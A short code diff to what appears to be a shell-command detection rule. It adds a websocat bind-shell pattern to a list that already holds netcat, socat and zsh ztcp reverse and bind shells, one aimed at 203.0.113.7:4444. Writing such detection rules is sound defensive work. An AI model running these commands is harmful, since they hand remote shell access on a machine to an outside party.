@@ -101,6 +101,7 @@ export const rule: Rule = {
       "zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.7 4444 && zsh >&$REPLY'",
     ],
     silent: [
+      'websocat -b ws-l:127.0.0.1:{{1234}} exec:{{bash}}',
       'nc {{host}} {{port}} -e /bin/sh',
       'nc -l -p {{port}} -e /bin/bash',
       'socat TCP-LISTEN:{{port}},reuseaddr,fork EXEC:/bin/bash,pty',
